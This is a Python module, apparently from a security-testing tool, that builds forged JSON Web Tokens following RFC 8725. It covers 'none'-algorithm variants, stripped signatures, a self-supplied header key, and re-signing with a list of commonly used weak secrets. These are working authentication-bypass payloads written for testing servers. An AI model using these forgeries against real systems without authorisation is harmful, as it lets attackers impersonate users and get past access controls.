"""
What a forger makes of a JSON Web Token without knowing its secret (RFC 8725). Pure.

Each forgery stands under the name of the shell variable that its request is shown with, so that it can be made again.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
from typing import TYPE_CHECKING, Any

from gonogo.tampering import encoded, longer, read_jwt

if TYPE_CHECKING:
    from collections.abc import Callable

NONES = ("none", "None", "NONE", "nOnE")
HS256 = "HS256"
KNOWN_SECRETS = (
    *("", "secret", "changeme", "change-me", "change_me", "changeit", "password", "supersecret", "super-secret"),
    *("your-secret-key", "your_secret_key", "your-256-bit-secret", "jwt-secret", "jwt_secret", "mysecret", "dev"),
    *("development", "test", "default", "key", "SECRET_KEY", "please-change-me-in-production"),
)
"""What signs tokens in samples, tutorials and `.env.example` files."""


def unsigned(algorithm: str) -> Callable[[str], str]:
    """Forge by naming an algorithm that signs nothing (RFC 8725, 3.1)."""
    return lambda token: made(token, lambda header: {**header, "alg": algorithm}, None)


def stripped(token: str) -> str:
    """Forge by leaving the signature out."""
    return made(token, dict, None)


def brings_its_key(token: str) -> str:
    """Forge by bringing the key along in the header (RFC 8725, 3.10)."""
    key = {"kty": "oct", "alg": HS256, "k": base64.urlsafe_b64encode(b"gonogo").rstrip(b"=").decode()}
    return made(token, lambda header: {**header, "alg": HS256, "jwk": key}, b"gonogo")


def resigned(secret: str) -> Callable[[str], str]:
    """Forge by signing with a secret that many know."""
    return lambda token: made(token, lambda header: {**header, "alg": HS256}, secret.encode())


def made(token: str, change: Callable[[dict[str, Any]], dict[str, Any]], secret: bytes | None) -> str:
    """A token that says the same, for a second longer, under another header; any other token stays as it is."""
    signed = read_jwt(token)
    if signed is None:
        return token
    content = f"{encoded(change(signed[0]))}.{encoded(longer(signed[1]))}"
    digest = b"" if secret is None else hmac.digest(secret, content.encode(), hashlib.sha256)
    return f"{content}.{base64.urlsafe_b64encode(digest).rstrip(b'=').decode()}"


UNSIGNED: dict[str, Callable[[str], str]] = {
    **{f"UNSIGNED_{number}": unsigned(name) for number, name in enumerate(NONES, 1)},
    "STRIPPED": stripped,
    "OWN_KEY": brings_its_key,
}
RESIGNED: dict[str, Callable[[str], str]] = {
    f"KNOWN_SECRET_{number}": resigned(secret) for number, secret in enumerate(KNOWN_SECRETS, 1)
}
